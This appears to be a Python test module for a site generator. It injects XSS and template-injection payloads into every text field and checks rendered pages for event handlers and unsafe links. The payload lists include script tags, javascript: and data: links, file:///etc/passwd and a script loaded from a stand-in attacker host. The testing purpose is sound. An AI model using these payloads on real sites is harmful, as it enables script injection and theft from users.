"""Hostile texts, and putting them into every field that takes text; which fields those are, the models say."""

from __future__ import annotations

import copy
import json
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from enum import Enum
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, get_args, get_origin

from pydantic import BaseModel, ValidationError

from panduan.koleksi import Entri, Jalur, Koleksi, load_entri
from panduan.model import TIPE
from panduan.periksa import check_koleksi
from panduan.templat_catatan import strip_anotasi
from panduan.temuan import Temuan, Tingkat

RETAS = "retas()"
"""What a payload calls; the browser test defines it and asks whether it was called."""

BERHTML = (
    # refused: markup of its own
    "<script>retas()</script>",
    "<ScRiPt src=//jahat.example/x.js></sCrIpT>",
    "<img src=x onerror=retas()>",
    "<svg/onload=retas()>",
    "</title><script>retas()</script>",
    "</textarea><svg onload=retas()>",
    "<!--><script>retas()</script>",
    "<?xml-stylesheet href='javascript:retas()'?>",
    "<![CDATA[<script>retas()</script>]]>",
    "<iframe srcdoc='&lt;script&gt;parent.retas()&lt;/script&gt;'>",
    "<a href=javascript:retas()>x</a>",
    "<https://jahat.example/>",
    "<javascript:retas()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=retas()>",
)
BERTAUTAN = (
    # refused: links to what is neither a page of ours nor https or mailto
    "[x](javascript:retas())",
    "[x](JaVaScRiPt:retas())",
    "[x]( javascript:retas() )",
    "[x](<javascript:retas()>)",
    "[x](javascript&colon;retas())",
    "[x](&#106;avascript:retas())",
    "[x](data:text/html;base64,PHNjcmlwdD5yZXRhcygpPC9zY3JpcHQ+)",
    "[x](vbscript:retas)",
    "[x](//jahat.example/x)",
    "[x](http://jahat.example/x)",
    "[x](file:///etc/passwd)",
    "![x](javascript:retas())",
    "[x](akar:/../x)",
)
LOLOS = (
    # may be accepted, and are then words like any other
    '" onmouseover="retas()" x="',
    "' onmouseover='retas()' x='",
    '" autofocus onfocus=retas() tabindex=0 x="',
    "&lt;/title&gt;&lt;script&gt;retas()&lt;/script&gt;",
    "&#60;img src=x onerror=retas()&#62;",
    "&#x3c;/script&#x3e;&#x3c;script&#x3e;retas()&#x3c;/script&#x3e;",
    "&amp;lt;script&amp;gt;retas()&amp;lt;/script&amp;gt;",
    "\\u003cscript\\u003eretas()\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=retas()\\x3e",
    "'+retas()+'",
    "\\');retas();//",
    '"});retas();//',
    "${retas()}`+retas()+`",
    "{{ 7*7 }}{% raw %}{{ retas() }}",
    "{{ config.__class__ }}",
    "]]> --> */ retas() /*",
    "javascript:retas()",
    "expression(retas()) url(javascript:retas())",
    "[x][y] [y]: javascript:retas()",
    '[x](https://aman.example/"onclick="retas())',
    "[x](mailto:a@b.example?subject=%22onclick=retas())",
    "![x](https://jahat.example/x.png)",
    '`<` `" onclick="retas()`',
    "$& $` \\g<0> \\1 %s {0}",
    "= < script >retas()< /script >",
    "＜script＞retas()＜/script＞",
    'href="mekanisme/ksdd" class="rujukan" title="x" onclick="retas()"',
    "--- title: x --- # judul",
    "BEGIN:VALARM\\nATTACH:https://jahat.example/\\nEND:VALARM",
)


@dataclass(frozen=True)
class Tempat:
    """A field that takes text, and one place in a record that has it or could have it."""

    entri: Entri
    jalur: Jalur
    model: type[BaseModel]
    medan: str

    @property
    def nama(self) -> str:
        """As messages name it."""
        return f"{self.entri.tipe.nama}: {self.model.__name__}.{self.medan}"


def is_teks(anotasi: Any) -> bool:
    """Whether an editor can put words of their own here: text, a list of texts, or texts by name."""
    dasar = strip_anotasi(anotasi)
    if isinstance(dasar, type):
        return issubclass(dasar, str) and not issubclass(dasar, Enum)
    return any(is_teks(satu) for satu in get_args(dasar))


def find_model(model: type[BaseModel], sudah: set[type[BaseModel]] | None = None) -> set[type[BaseModel]]:
    """A model with all that can be nested in it."""
    sudah = set() if sudah is None else sudah
    if model not in sudah:
        sudah.add(model)
        for medan in model.model_fields.values():
            for dalam in _iter_model(medan.annotation):
                find_model(dalam, sudah)
    return sudah


def _iter_model(anotasi: Any) -> Iterator[type[BaseModel]]:
    if isinstance(anotasi, type) and issubclass(anotasi, BaseModel):
        yield anotasi
    for satu in get_args(anotasi):
        yield from _iter_model(satu)


def find_semua_medan() -> set[tuple[str, type[BaseModel], str]]:
    """Every field of every record type that takes text: (type, model, field)."""
    return {
        (tipe.nama, model, nama)
        for tipe in TIPE.values()
        for model in find_model(tipe.model)
        for nama, medan in model.model_fields.items()
        if is_teks(medan.annotation)
    }


def find_tempat(*semua: Koleksi) -> dict[tuple[str, type[BaseModel], str], Tempat]:
    """For each such field one place, preferably where it is filled in, in the shortest such record."""
    hasil: dict[tuple[str, type[BaseModel], str], Tempat] = {}
    for terisi in (True, False):
        for entri in _urut_pendek(semua):
            for jalur, isi in entri.bagian:
                for nama, medan in type(isi).model_fields.items():
                    kunci = (entri.tipe.nama, type(isi), nama)
                    if (
                        kunci not in hasil
                        and is_teks(medan.annotation)
                        and (getattr(isi, nama) or not terisi)
                    ):
                        hasil[kunci] = Tempat(entri, jalur, type(isi), nama)
    return hasil


def _urut_pendek(semua: tuple[Koleksi, ...]) -> list[Entri]:
    entri = (entri for koleksi in semua for entri in koleksi.iter_entri())
    return sorted(entri, key=lambda satu: (len(satu.dokumen.teks), satu.dokumen.berkas))


def dump(entri: Entri) -> dict[str, Any]:
    """The record as an editor could have written it, at full length."""
    hasil: dict[str, Any] = entri.isi.model_dump(mode="json", exclude_none=True)
    return hasil


def inject(data: dict[str, Any], tempat: Tempat, teks: str, *, sambung: bool) -> None:
    """Put ``teks`` into the field, behind what it holds or in its stead."""
    isi: Any = data
    for bagian in tempat.jalur:
        isi = isi[bagian]
    lama = isi.get(tempat.medan)
    dasar = strip_anotasi(tempat.model.model_fields[tempat.medan].annotation)
    if get_origin(dasar) is tuple:
        depan = f"{lama[0]} " if lama and sambung and isinstance(lama[0], str) else ""
        isi[tempat.medan] = [f"{depan}{teks}", *(lama or ())[1:]]
    elif get_origin(dasar) is dict:
        kunci = next(iter(lama), "x") if lama else "x"
        isi[tempat.medan] = {**(lama or {}), kunci: teks}
    else:
        isi[tempat.medan] = f"{lama} {teks}" if lama and sambung else teks


def write_catatan(jalur: Path, data: dict[str, Any]) -> None:
    """The record with every field on a line of its own; JSON is YAML, and quick to write."""
    jalur.write_text(json.dumps(data, ensure_ascii=False, indent=1), encoding="utf-8")


class Pembaca(HTMLParser):
    """What a page is made of: elements with their attributes, and whatever in it can act or lead elsewhere."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bentuk: set[tuple[str, str]] = set()
        self.bahaya: list[str] = []
        self.tuju: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.bentuk |= {(tag, ""), *((tag, nama) for nama, _ in attrs)}
        for nama, nilai in attrs:
            alamat = (nilai or "").strip().lower()
            if nama.startswith("on") or nama == "srcdoc":
                self.bahaya.append(f"<{tag} {nama}={nilai}>")
            if nama in ("href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcset"):
                self.tuju.add(f"{tag} {alamat}")
                skema = alamat.partition(":")[0]
                if (
                    ":" in alamat
                    and skema.isalpha()
                    and skema not in ("https", "mailto", "tel", "data", "urn")
                ):
                    self.bahaya.append(f"<{tag} {nama}={nilai}>")
                luar = alamat.startswith(("https://", "http://", "//", "data:"))
                if luar and tag not in ("a", "link") and not alamat.startswith("data:image/"):
                    self.bahaya.append(f"<{tag} {nama}={nilai}>")


def read_html(html: str) -> Pembaca:
    """The page, read."""
    pembaca = Pembaca()
    pembaca.feed(html)
    pembaca.close()
    return pembaca


PUTARAN = 2
"""Rounds in which every text is used up."""


def is_diterima(satu: Tempat, data: dict[str, Any], teks: str, *, sambung: bool = False) -> bool:
    """Whether the model alone takes the text there."""
    salinan = copy.deepcopy(data)
    inject(salinan, satu, teks, sambung=sambung)
    try:
        satu.entri.tipe.model.model_validate(salinan)
    except ValidationError:
        return False
    return True


def inject_semua(asli: Koleksi, tempat: list[Tempat], pilih: Callable[[int, Tempat], str], data: Path) -> dict[tuple[str, int], Tempat]:  # fmt: skip
    """Write the hosts with a text in every field that takes it; returns file and line of each."""
    isi: dict[str, dict[str, Any]] = {}
    dipakai: list[Tempat] = []
    for nomor, satu in enumerate(tempat):
        teks = pilih(nomor, satu)
        host = isi.setdefault(satu.entri.dokumen.berkas, dump(satu.entri))
        if teks and is_diterima(satu, host, teks, sambung=True):
            inject(host, satu, teks, sambung=True)
            dipakai.append(satu)
    for berkas, host in isi.items():
        write_catatan(data.parent / berkas, host)
    koleksi = muat(asli, data, set(isi))
    assert koleksi.temuan == []
    hasil = {}
    for satu in dipakai:
        entri = koleksi.entri[satu.entri.tipe.nama][satu.entri.isi.id]
        for jalur in ((*satu.jalur, satu.medan), (*satu.jalur, satu.medan, 0)):
            hasil[entri.dokumen.berkas, entri.dokumen.find_letak(jalur)[0]] = satu
    return hasil


def muat(asli: Koleksi, data: Path, berkas: set[str]) -> Koleksi:
    """The collection with only these files read again."""
    koleksi = Koleksi(
        pencarian=asli.pencarian, dokumen_pencarian=asli.dokumen_pencarian, libur=asli.libur, dokumen_libur=asli.dokumen_libur
    )  # fmt: skip
    for tipe, semua in asli.entri.items():
        for id_, entri in semua.items():
            if entri.dokumen.berkas in berkas:
                load_entri(koleksi, TIPE[tipe], data / tipe / f"{id_}.yml", entri.dokumen.berkas)
            else:
                koleksi.entri[tipe][id_] = entri
    return koleksi


TANPA_ISIAN = " ".join([teks for teks in LOLOS if "{" not in teks and "](" not in teks][:6])
"""For texts in which `{{...}}` means something, so that the check refuses it."""


def build_rantai(nomor: int) -> list[str]:
    """The texts of one round, in one line."""
    return list(LOLOS[nomor % PUTARAN :: PUTARAN])


def suntik_yang_lolos(
    asli: Koleksi, tempat: list[Tempat], data: Path, putaran: int
) -> tuple[Koleksi, set[str]]:
    """A collection that passes the check, with hostile words in every field that may have them."""
    ditolak: Counter[str] = Counter()
    terpilih = {}
    for nomor, satu in enumerate(tempat):
        rantai = build_rantai(nomor + putaran)
        host = dump(satu.entri)
        calon = (" ".join(rantai), " ".join(rantai[:4]), rantai[0], rantai[1])
        terpilih[satu.nama] = next(
            (teks for teks in calon if is_diterima(satu, host, teks, sambung=True)), ""
        )

    def pilih(_: int, satu: Tempat) -> str:
        return (terpilih[satu.nama], TANPA_ISIAN, "")[min(ditolak[satu.nama], 2)]

    for _ in range(12):
        letak = inject_semua(asli, tempat, pilih, data)
        koleksi = muat(asli, data, {satu.entri.dokumen.berkas for satu in tempat})
        galat = [satu for satu in check_koleksi(koleksi) if satu.tingkat is Tingkat.GALAT]
        if not galat:
            return koleksi, {satu.nama for satu in letak.values()}
        ditolak.update(_find_penyebab(galat, letak))
    raise AssertionError("\n".join(map(str, galat)))


def _find_penyebab(galat: list[Temuan], letak: dict[tuple[str, int], Tempat]) -> set[str]:
    """The fields that findings point at; all of a record's identifiers when they point elsewhere."""
    kena = {letak[satu.berkas, satu.baris].nama for satu in galat if (satu.berkas, satu.baris) in letak}
    if kena:
        return kena
    # Told where something points at it: the nearest field above, in the same record.
    for satu in galat:
        atas = [baris for berkas, baris in letak if berkas == satu.berkas and baris <= satu.baris]
        if atas:
            kena.add(letak[satu.berkas, max(atas)].nama)
    assert kena, "\n".join(map(str, galat))
    return kena
